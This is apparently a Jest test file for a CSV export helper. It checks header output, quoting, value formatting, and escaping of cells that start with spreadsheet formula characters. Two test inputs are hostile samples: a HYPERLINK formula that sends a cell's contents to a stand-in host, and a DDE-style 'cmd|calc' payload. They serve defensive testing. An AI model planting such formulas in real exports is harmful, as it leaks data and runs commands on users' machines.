import { describe, expect, test } from '@jest/globals';
import { csvHead, csvRows } from './csv-text.js';

test('the file begins with a byte order mark and the names of the columns', () => {
  expect(csvHead(['id', 'total_amount_cents'])).toBe('\uFEFFid,total_amount_cents\r\n');
});

describe('a cell', () => {
  test.each([
    ['plain text', 'Acme', 'Acme'],
    ['letters beyond ASCII', 'Åke & Søn 株式会社', 'Åke & Søn 株式会社'],
    ['a comma', 'Acme, Inc.', '"Acme, Inc."'],
    ['quotes', 'The "Best" Ltd', '"The ""Best"" Ltd"'],
    ['lines', 'one\ntwo\r\nthree', '"one\ntwo\r\nthree"'],
    ['a line feed', 'one\n=1+1', '"one\n=1+1"'],
    ['a return', 'one\r=1+1', '"one\r=1+1"'],
    ['nothing', null, ''],
    ['an amount', 9_007_199_254_740_991n, '9007199254740991'],
    ['a negative amount', -5n, '-5'],
    ['a negative decimal', '-0.25', '-0.25'],
    ['a count', 0, '0'],
    ['true', true, 'true'],
    ['false', false, 'false'],
    ['an instant', new Date('2027-03-01T07:00:00.250Z'), '2027-03-01T07:00:00Z'],
    ['a formula', '=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
    ['a formula that begins with +', '+1+1', "'+1+1"],
    ['a formula that begins with -', '-1+cmd|calc', "'-1+cmd|calc"],
    ['a formula that begins with @', '@SUM(A1)', "'@SUM(A1)"],
    ['a formula after a tab', '\t=1+1', "'\t=1+1"],
    ['a formula after a return', '\r=1+1', `"'\r=1+1"`],
    ['a formula with a wide sign', '＝1+1', "'＝1+1"],
    ['a sign within a text', 'a=b', 'a=b'],
  ])('a cell with %s', (_, cell, text) => {
    expect(csvRows([[cell, 'next']])).toBe(`${text},next\r\n`);
  });
});
